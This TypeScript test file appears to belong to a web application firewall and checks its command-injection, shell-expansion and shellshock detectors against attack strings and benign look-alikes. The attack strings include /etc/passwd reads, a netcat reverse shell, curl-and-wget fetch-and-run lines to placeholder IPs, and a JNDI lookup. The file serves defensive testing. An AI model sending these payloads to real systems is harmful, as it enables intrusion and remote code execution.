// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell and lookup syntax is what these values are about
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { requestInputs } from '../inputs.js';
import { compileSignatures, parseSignatureRules } from '../signatures.js';
import { DETECTORS, detectCommandInjection, detectCommandLine, detectShellExpansion, urlParts } from './command.js';
import { BUILTIN_DETECTORS, SHIPPED_SIGNATURES_DIR } from './index.js';

const inQuery = { location: 'query:q' };
const inReferer = { location: 'header:referer' };

describe('command-injection', () => {
  it('exports its detectors by rule name', () => {
    assert.equal(DETECTORS['command-injection'], detectCommandInjection);
    assert.equal(DETECTORS['command-line'], detectCommandLine);
    assert.equal(DETECTORS['shell-expansion'], detectShellExpansion);
  });

  for (const attack of [
    ';id',
    'a|id|',
    '& ping -i 30 127.0.0.1 &',
    'ping.exe -n 31 127.0.0.1',
    '; /bin/sleep 31 ;',
    '`id`',
    '$(whoami)',
    'x;w"h"o$@ami',
    "'|c'a't /etc/passwd",
    'cat /etc/passwd',
    '1;cat${IFS}/etc/passwd',
    '{cat,/etc/passwd}',
    'x /???/c?t /???/p??s??',
    'bash -c "id"',
    'C:\\Windows\\System32\\cmd.exe /c dir',
    'id;',
    ' dir c: |',
    '<!--#exec cmd="/bin/cat /etc/passwd"-->',
    "x'; nc -e /bin/sh 203.0.113.7 4444 '",
    'a && curl http://203.0.113.9/x.sh | sh',
    // evasions inside command words: empty substitutions and variables, `$SHELL`, mixed case, versions
    '$(whoami$())',
    'a; sh$XX -c whoami',
    '|$u wget test',
    ';w`u`ho`u`ami',
    'x;$0 -c id',
    '${SHELL} -c "echo hi"',
    "'TiMe Sh -c whoami",
    ';gcc10.1<<<void main(){}',
    ';python3.10 -c "import os"',
    // brace expansions that build a command
    '{l,-lh}s',
    'c{a,oun}t /etc/hosts',
    '{,ifconfig}',
    '{,ip,a}',
    // programs named by their directory, also relative to the root, also unknown to the lists
    '/bin/unxz -c /var/log/app.xz',
    'bin/visudo',
    // builtins that define code, and commands put together across `cd`
    'alias a=c${KK}url&a example.com',
    "alias ..='cd ..'",
    ";trap 'rm -rf file.txt' SIGEXIT",
    'cd /;cd etc;column passwd',
    'c99 -wrapper sh,-c,curl example.com .',
    // commands standing alone: unmistakable names, prefixes, alias-skipping backslash, a lone probe
    'ansible-playbook site.yml',
    'cscli alerts list',
    'time ifconfig',
    '\\ls',
    ';who',
    "';htop'",
    // globs spelling a system file
    'cat /etc/pa[s]swd',
    'cat /[e//]tc/[p//]asswd',
    'ls /a[b///]c',
    '<(cat file)',
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => {
      const hit = detectCommandInjection(attack, inQuery);
      assert.ok(hit, attack);
      assert.ok(hit.start >= 0 && hit.end <= attack.length && hit.start < hit.end);
    });
  }

  for (const benign of [
    'Tom & Jerry',
    'echo in the mirror',
    'ls 300 lexus',
    'a hero; more than that',
    'gzip, deflate',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36',
    'zh-CN,zh;q=0.9,en-US;q=0.8,en;q=0.7',
    'set it to `true` and run `ls`',
    'TypeError: x is undefined\n    at https://cdn.example.com/app.js:1:2\n    at Object.next (https://cdn.example.com/app.js:1:9)',
    'many environments such\nas `equation`, `align`, etc. are supported',
    'https://example.com/?a=1&id=2&time=3',
    '{"id":1,"type":"cat","ls":[1,2]}',
    'text/html;charset=utf-8',
    'I bought a cat; it sleeps all day',
    'C:\\Windows\\System32\\ls',
    'time is money',
    'sudo make me a sandwich',
    'public int Id { get; set; }',
    'what|who|where',
    'I see, so your alias is not = to your name',
    'The pizza vendor was known by the alias "pineapple" online.',
    '{red,green,blue}',
    '*.{jpg,png}',
    'Tom {and,or} Jerry',
    'show file{,s} and {,more} results',
    'its a trap!',
    'bin/console cache:clear',
    'version: python3.10',
    'files/[id]/page.tsx',
    'price is $0 today',
    'run `ls` and `pwd` first',
    'the cat`s toy',
  ]) {
    it(`passes ${JSON.stringify(benign.slice(0, 40))}`, () => {
      assert.equal(detectCommandInjection(benign, inQuery), undefined);
    });
  }

  it('reads a long value around its candidates only, and still finds a command far into it', () => {
    const padding = 'lorem ipsum dolor sit amet '.repeat(400);
    const hit = detectCommandInjection(`${padding};cat /etc/passwd`, inQuery);
    assert.equal(hit?.detail, 'program-on-sensitive-file');
    assert.ok((hit?.start ?? 0) >= padding.length);
    assert.equal(detectCommandInjection(padding, inQuery), undefined);
  });

  it('treats lines of a whole body as text, and lines of a field as commands', () => {
    const value = 'notes\nping -c 3 example.com';
    assert.ok(detectCommandInjection(value, inQuery));
    assert.equal(detectCommandInjection('notes\nwatch this space', { location: 'body' }), undefined);
  });

  it('is linear on pathological input', { timeout: 5000 }, () => {
    for (const unit of ['$(', '`', "'", '${', '{a,', ';x ', '| ']) {
      assert.doesNotThrow(() => detectCommandInjection(unit.repeat(20_000), inQuery));
      assert.doesNotThrow(() => detectCommandInjection(unit.repeat(20_000), inReferer));
    }
  });
});

describe('command-injection in a Referer, read as the URL it is', () => {
  // a bare name after a URL's own `;` or `&` is a flag, a matrix parameter, a route's parameter
  for (const benign of [
    'https://shop.example.com/list?sort=asc&id',
    'https://app.example.com/#/orders;id',
    'https://example.com/docs/cli;ls',
    'https://example.com/a?x=1&ps&who',
  ]) {
    it(`passes ${JSON.stringify(benign)}`, () => assert.equal(detectCommandInjection(benign, inReferer), undefined));
  }
  for (const [attack, detail] of [
    ['https://example.com/?q=a|id', 'command-after-separator'],
    ['https://example.com/?q=1;wget http://203.0.113.5/x.sh', 'command-after-separator'],
    ['www.example.com/?param=;/bin/ca? /et*/passwd', 'absolute-program'],
    ['https://example.com/x;cat /etc/passwd', 'program-on-sensitive-file'],
    ['https://example.com/?q=$(whoami)', 'command-substitution'],
    ['https://example.com/?q=;id', 'command-after-separator'],
    ['www.example.com/;ls -al', 'command-after-separator'],
    ['http://example.com/upload.php;wget http://203.0.113.7/a.jpg;perl a.jpg', 'command-after-separator'],
    ['https://example.com/x;wget${IFS}http://203.0.113.5/x', 'command-after-separator'],
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => {
      const hit = detectCommandInjection(attack as string, inReferer);
      assert.equal(hit?.detail, detail);
      assert.ok(hit !== undefined && hit.start >= 0 && hit.end <= (attack as string).length);
    });
  }
  it('reads a Referer that is no URL as a plain value', () => {
    assert.equal(detectCommandInjection(';env', inReferer)?.detail, 'command-after-separator');
    assert.equal(detectCommandInjection('x|id', inReferer)?.detail, 'command-after-separator');
  });
  it('still reads the same URLs as commands in a query value, where `&` and `;` are the value', () => {
    assert.ok(detectCommandInjection('x;ls -al', inQuery));
  });
});

describe('urlParts', () => {
  it('splits path segments, `;` parameters, query names and values, and a fragment route', () => {
    const url = 'https://h.example/a/b;c?d=e;f&g#/h;i?j=k';
    assert.deepEqual(
      urlParts(url).map(([from, to]) => url.slice(from, to)),
      ['a', 'b', 'c', 'd', 'e;f', 'g', 'h', 'i', 'j', 'k'],
    );
  });
});

describe('command-line (paranoia 2)', () => {
  it('reports a value that is itself a command line', () => {
    assert.ok(detectCommandLine('uname -a', inQuery));
    assert.ok(detectCommandLine('ls -la /var', inQuery));
    assert.equal(detectCommandInjection('uname -a', inQuery), undefined);
  });

  it('still passes prose', () => {
    assert.equal(detectCommandLine('find the best coffee in town', inQuery), undefined);
  });
});

describe('shell-expansion', () => {
  for (const attack of [
    '$((7*6))',
    '$(($() 42))',
    '$[2+2]',
    '$[]',
    '${x#{}}',
    '${PATH%%/*}',
    '${:1337:-x$}{jndi:ldap://example.com/a}',
    '<(cmd)',
    '>(tee log)',
    '~+',
    '~-1',
    '~+5',
    'ls ~+/x',
    'ls ~-2/etc',
    'x|~+1',
    '!-1!-2',
    '/etc/[!q]asswd',
    '/etc/[m-z]asswd',
    'x /[?]tc/pa[?]swd',
    '/[e///]tc',
    '/???/p?ss??',
  ]) {
    it(`reports ${JSON.stringify(attack)}`, () => {
      const hit = detectShellExpansion(attack, inQuery);
      assert.ok(hit, attack);
      assert.ok(hit.start >= 0 && hit.end <= attack.length && hit.start < hit.end);
    });
  }

  for (const benign of [
    '$[0].name',
    "$['store'].book",
    '$[-1]',
    '${name}',
    'Hello ${user.name}',
    '${VAR:-default}',
    '/* comment */',
    '^/[a-z]+/[0-9]*$',
    '/[a-z]*/',
    '/api/items/[id]',
    '~/Documents',
    '~user',
    'approx ~+5%',
    // a signed number after a tilde in prose is an approximation, not the directory stack
    'drops to ~-5 overnight',
    'range ~-1 to ~+1',
    'Wow!! nice',
    'score: 1-0 !-1',
    'see /[docs](https://example.com)',
    'smile <(o)> ok',
    'costs $5 (about $[4.99])',
  ]) {
    it(`passes ${JSON.stringify(benign)}`, () => {
      assert.equal(detectShellExpansion(benign, inQuery), undefined);
    });
  }
});

describe('shipped rules around shells', () => {
  async function rulesMatched(file: string, headers: Record<string, string>, query = ''): Promise<string[]> {
    const path = join(SHIPPED_SIGNATURES_DIR, file);
    const set = compileSignatures(parseSignatureRules(await readFile(path, 'utf8'), path, BUILTIN_DETECTORS), BUILTIN_DETECTORS);
    const { inputs } = requestInputs({ path: '/upload', query, headers: { host: 'api.example.com', ...headers }, body: undefined });
    return set.inspect(inputs).matches.map((m) => m.ruleId);
  }

  it('blocks uploads named like configuration files, also padded or renamed', async () => {
    for (const name of ['.htaccess', '.bashrc', 'settings.php', 'config.yml ', 'wp-config-php.bak', 'settings. php', '.boto']) {
      assert.ok((await rulesMatched('rce.yaml', { 'x-filename': name })).includes('rce/restricted-file-upload'), name);
    }
    for (const name of ['avatar.png', 'settings.png', 'my-config-notes.txt', 'report.pdf', 'configuration.json']) {
      assert.ok(!(await rulesMatched('rce.yaml', { 'x-filename': name })).includes('rce/restricted-file-upload'), name);
    }
  });

  it('reads a Bash function definition in argument names too', async () => {
    assert.ok((await rulesMatched('shellshock.yaml', {}, '()%20%7B')).includes('shellshock/shellshock'));
    assert.deepEqual(await rulesMatched('shellshock.yaml', {}, 'sort=(a)'), []);
  });
});
